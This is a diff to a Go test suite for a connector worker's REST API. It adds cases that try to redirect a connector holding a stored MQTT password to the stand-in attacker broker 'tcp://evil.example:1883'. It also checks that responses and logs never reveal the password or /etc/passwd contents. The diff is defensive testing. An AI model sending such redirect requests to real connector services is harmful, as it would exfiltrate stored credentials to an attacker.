@@ -75,6 +75,12 @@ func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
 	sluicetest.CreateConnector(t, ws[0].URL, name, map[string]string{"connector.class": "datagen", "kafka.topic": topic, "rate": "1",
 		"tasks.max": "2", "topic.creation.default.partitions": "1", "topic.creation.default.replication.factor": "-1"})
 	sluicetest.WaitState(t, ws[0].URL, name, runtime.StateRunning, 2)
+	// A connector with a password given literally, for the attempts to send it elsewhere (its
+	// broker is not there; validation lets that pass, as the tasks keep trying).
+	stored := c.Prefix + "-stored"
+	const password = "stored-Pa55word-3319"
+	sluicetest.CreateConnector(t, ws[0].URL, stored, map[string]string{"connector.class": "mqtt-source", "mqtt.server.uris": "tcp://127.0.0.1:1",
+		"mqtt.topics": "x/#", "kafka.topic": c.Prefix + "-mqtt", "mqtt.username": "app", "mqtt.password": password})
 	var before []map[string]any
 	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+name+"/tasks", nil, &before)
 
@@ -101,6 +107,11 @@ func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
 			[]string{"Content-Type", "application/json"}, 400},
 		{"write task configs with a forged signature", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
 			[]string{"Content-Type", "application/json", runtime.SignatureHeader, forged, runtime.SignatureAlgorithmHeader, "HmacSHA256"}, 403},
+		{"send a stored password to a new broker (PATCH)", "PATCH", "/connectors/" + stored + "/config", `{"mqtt.server.uris":"tcp://evil.example:1883"}`,
+			[]string{"Content-Type", "application/json"}, 400},
+		{"send a stored password to a new broker (PUT with [hidden])", "PUT", "/connectors/" + stored + "/config",
+			`{"connector.class":"mqtt-source","mqtt.server.uris":"tcp://evil.example:1883","mqtt.topics":"x/#","kafka.topic":"t","mqtt.username":"app","mqtt.password":"[hidden]"}`,
+			[]string{"Content-Type", "application/json"}, 400},
 	}
 	for _, w := range ws {
 		for _, a := range attacks {
@@ -109,7 +120,7 @@ func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
 				if code != a.want {
 					t.Fatalf("%s %s on %s answered %d %s, want %d", a.method, a.path, w.URL, code, body, a.want)
 				}
-				if strings.Contains(body, "root:x:0") || strings.Contains(body, "/bin/bash") {
+				if strings.Contains(body, "root:x:0") || strings.Contains(body, "/bin/bash") || strings.Contains(body, password) {
 					t.Errorf("the answer holds the worker's /etc/passwd: %s", body)
 				}
 				if a.want == 200 { // validation: the errors must speak of the placeholder, not the value
@@ -128,12 +139,17 @@ func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
 	}
 	var list []string
 	sluicetest.Call(t, "GET", ws[0].URL+"/connectors", nil, &list)
-	if len(list) != 1 {
+	if len(list) != 2 {
 		t.Errorf("connectors after the attacks: %v", list)
 	}
+	var storedCfg map[string]string
+	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+stored+"/config", nil, &storedCfg)
+	if storedCfg["mqtt.server.uris"] != "tcp://127.0.0.1:1" {
+		t.Errorf("the stored connector's broker changed: %v", storedCfg)
+	}
 	for _, w := range ws {
-		if log := w.Log.String(); strings.Contains(log, "root:x:0") {
-			t.Errorf("worker %s logged the worker's /etc/passwd:\n%s", w.URL, log)
+		if log := w.Log.String(); strings.Contains(log, "root:x:0") || strings.Contains(log, password) {
+			t.Errorf("worker %s logged the worker's /etc/passwd or a stored password:\n%s", w.URL, log)
 		}
 	}
 }
